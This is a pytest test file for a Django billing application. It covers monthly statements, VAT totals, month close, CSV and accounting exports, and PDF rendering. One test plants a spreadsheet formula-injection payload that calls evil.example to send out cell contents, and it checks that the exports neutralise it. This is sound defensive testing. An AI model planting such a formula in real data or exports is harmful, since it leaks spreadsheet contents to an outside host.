"""Monthly statements, their exports and the month close, on the demo catalogue."""
import csv
import io
from datetime import date
from decimal import Decimal

import pypdfium2
import pytest
from django.core.exceptions import ValidationError

from billing.models import Statement
from billing.services import package_purchase, time_entry_log
from billing.statements import (accounting_csv, statement_build, statement_csv, statement_generate, statement_pdf)
from billing.tasks import close_month
from core.models import Organization
from tests.billing.conftest import at

pytestmark = pytest.mark.django_db


def _log(demo, slug, org, kind, when, minutes, emergency=False):
    return time_entry_log(tenant=demo.tenant(slug), ticket=demo.ticket(slug, org), agent=demo.agent(slug), kind=kind,
                          started_at=when, minutes=minutes, emergency=emergency)


def test_opieka_from_1_april_pays_300_for_the_yearly_update_in_april(demo):
    # given Wodociągi on OPIEKA from 1 April 2026 (order accepted 16 March), update value 1 200.00
    kjm = demo.tenant("kjm")
    wodociagi = demo.organization("kjm", "Wodociągi")
    april = statement_build(tenant=kjm, organization=wodociagi, month=date(2026, 4, 1))
    update = [line for line in april.lines if line.code == "update"]
    # then 3 months without OPIEKA: 1 200.00 ÷ 12 × 3 = 300.00 net, once
    assert [line.net for line in update] == [Decimal("300.00")]
    assert update[0].quantity == Decimal(3)
    may = statement_build(tenant=kjm, organization=wodociagi, month=date(2026, 5, 1))
    assert not [line for line in may.lines if line.code == "update"]


def test_opieka_all_year_pays_no_update_fee(demo):
    january = statement_build(tenant=demo.tenant("kjm"), organization=demo.organization("kjm", "Spółdzielnia"),
                              month=date(2026, 1, 1))
    assert [line.code for line in january.lines] == ["subscription", "addon", "addon"]
    assert january.totals.net == Decimal("2750.00")  # 2 200 + 400 extended hours + 150 data warehouse


def test_standard_month_statement_fee_overage_and_exact_totals(demo):
    # given Elektro-Mat (STANDARD 799.00) with 8 h 30 min of remote work in May
    for day, minutes in [(4, 235), (5, 235), (6, 25)]:
        _log(demo, "wysylki", "Elektro-Mat", "remote", at(2026, 5, day, 9), minutes)
    data = statement_build(tenant=demo.tenant("wysylki"), organization=demo.organization("wysylki", "Elektro-Mat"),
                           month=date(2026, 5, 1))
    assert [(line.code, line.quantity, line.unit_price, line.net) for line in data.lines] == [
        ("subscription", Decimal("1"), Decimal("799.00"), Decimal("799.00")),
        ("time", Decimal("1.50"), Decimal("140.00"), Decimal("210.00"))]
    # then net + VAT == gross to the grosz
    assert data.totals.net == Decimal("1009.00")
    assert data.totals.vat == Decimal("232.07")
    assert data.totals.net + data.totals.vat == data.totals.gross == Decimal("1241.07")


def test_pakiet_statement_lists_packages_and_opieka_after_hours_emergencies(demo):
    kjm = demo.tenant("kjm")
    package_purchase(tenant=kjm, organization=demo.organization("kjm", "Biuro Rachunkowe"),
                     purchased_on=date(2026, 6, 3))
    pakiet = statement_build(tenant=kjm, organization=demo.organization("kjm", "Biuro Rachunkowe"),
                             month=date(2026, 6, 1))
    assert [(line.code, line.net) for line in pakiet.lines] == [("package", Decimal("540.00"))]
    _log(demo, "kjm", "Wodociągi", "remote", at(2026, 6, 2, 23), 40, emergency=True)
    opieka = statement_build(tenant=kjm, organization=demo.organization("kjm", "Wodociągi"), month=date(2026, 6, 1))
    assert [(line.code, line.net) for line in opieka.lines] == [("subscription", Decimal("1500.00")),
                                                                ("after_hours", Decimal("180.00"))]


def test_generate_is_idempotent_and_reproducible(demo):
    tenant = demo.tenant("wysylki")
    org = demo.organization("wysylki", "Meblex")
    first = statement_generate(tenant=tenant, organization=org, month=date(2026, 3, 1))
    again = statement_generate(tenant=tenant, organization=org, month=date(2026, 3, 17))
    assert (again.pk, again.generated_at, again.lines) == (first.pk, first.generated_at, first.lines)
    assert Statement.objects.filter(organization=org).count() == 1
    # an issued statement is frozen: late work of the closed month is refused, the document stays
    with pytest.raises(ValidationError) as error:
        _log(demo, "wysylki", "Meblex", "remote", at(2026, 3, 10, 9), 295)
    assert "started_at" in error.value.message_dict
    again = statement_generate(tenant=tenant, organization=org, month=date(2026, 3, 1))
    assert (again.pk, again.generated_at, again.lines, again.net) == (first.pk, first.generated_at, first.lines,
                                                                      first.net)
    # while the next, open month takes work as usual
    assert _log(demo, "wysylki", "Meblex", "remote", at(2026, 4, 10, 9), 295).overage_minutes == 120


def test_close_month_generates_every_organization_once(demo):
    created = close_month("2026-05-01")
    assert created == Organization.objects.count()
    assert close_month("2026-05-01") == 0
    assert Statement.objects.filter(month=date(2026, 5, 1)).count() == Organization.objects.count()


def test_statement_csv_and_accounting_export(demo):
    _log(demo, "wysylki", "Elektro-Mat", "remote", at(2026, 5, 4, 9), 475)  # 480 billed: 7 h + 1 h
    tenant = demo.tenant("wysylki")
    statement = statement_generate(tenant=tenant, organization=demo.organization("wysylki", "Elektro-Mat"),
                                   month=date(2026, 5, 1))
    rows = list(csv.DictReader(io.StringIO(statement_csv(statement))))
    assert [(r["Kod"], r["Wartość netto"]) for r in rows] == [
        ("subscription", "799.00"), ("time", "140.00"), ("net", "939.00"), ("vat", "215.97"), ("gross", "1154.97")]
    assert [r["Opis"] for r in rows[-3:]] == ["Razem netto", "VAT 23\u00a0%", "Do zapłaty brutto"]
    export = list(csv.DictReader(io.StringIO(accounting_csv(tenant=tenant, month=date(2026, 5, 1)))))
    assert len(export) == 1
    assert {k: export[0][k] for k in ("organization", "kind", "actual_minutes", "billed_minutes",
                                      "billable_minutes", "rate_net", "net")} == {
        "organization": "Elektro-Mat S.A.", "kind": "remote", "actual_minutes": "475", "billed_minutes": "480",
        "billable_minutes": "60", "rate_net": "140.00", "net": "140.00"}
    assert export[0]["ticket"].startswith("WYS-")


def test_pdf_renders_and_rasterises(demo, tmp_path):
    kjm = demo.tenant("kjm")
    statement = statement_generate(tenant=kjm, organization=demo.organization("kjm", "Wodociągi"),
                                   month=date(2026, 4, 1))
    pdf = statement_pdf(statement)
    assert pdf.startswith(b"%PDF")
    # PDFium (the renderer of Chromium) opens the document and rasterises its first page at 60 dpi.
    document = pypdfium2.PdfDocument(pdf)
    try:
        assert len(document) >= 1
        page = document[0]
        size_in_points = page.get_size()
        image = page.render(scale=60 / 72).to_pil().convert("L")
    finally:
        document.close()
    # A4 at 60 dpi: about 496 × 702 pixels.
    assert all(abs(pixels - points * 60 / 72) <= 1 for pixels, points in zip(image.size, size_in_points, strict=True))
    darkest, lightest = image.getextrema()
    assert lightest == 255 and darkest < 128, "the page is blank: nothing was drawn on it"
    image.save(tmp_path / "page.png")  # to look at when the test is run with --basetemp
    assert (tmp_path / "page.png").read_bytes().startswith(b"\x89PNG")


def test_exports_neutralise_spreadsheet_formulas_in_names(demo):
    # given an organization and an agent whose names a spreadsheet would run as formulas
    from core.models import User

    elektro = demo.organization("wysylki", "Elektro-Mat")
    entry = _log(demo, "wysylki", "Elektro-Mat", "remote", at(2026, 5, 4, 9), 475)
    Organization.objects.filter(pk=elektro.pk).update(name='=HYPERLINK("http://evil.example/?x="&A1,"Bilans")',
                                                      tax_id="+48123")
    User.objects.filter(pk=entry.agent.user_id).update(first_name="@SUM(1+1)", last_name="")
    tenant = demo.tenant("wysylki")
    statement = statement_generate(tenant=tenant, organization=Organization.objects.get(pk=elektro.pk),
                                   month=date(2026, 5, 1))

    # when they are exported, then each such cell starts with a quote and numbers stay numbers
    rows = list(csv.DictReader(io.StringIO(statement_csv(statement))))
    assert {r["Organizacja"] for r in rows} == {'\'=HYPERLINK("http://evil.example/?x="&A1,"Bilans")'}
    assert {r["NIP"] for r in rows} == {"'+48123"}
    [export] = csv.DictReader(io.StringIO(accounting_csv(tenant=tenant, month=date(2026, 5, 1))))
    assert export["organization"].startswith("'=") and export["agent"] == "'@SUM(1+1)"
    assert export["net"] == "140.00"


def test_the_csv_cell_rule():
    from core.csv_export import cell

    for dangerous in ("=1+1", "+1+1", "-1+1", "@SUM(A1)", "\t=1", "\r=1", "-", "=", "-2+3"):
        assert cell(dangerous) == "'" + dangerous
    for harmless in ("Bilans", "", "1+1", "-12.50", "-3", "a=b", 12, None):
        assert cell(harmless) == harmless
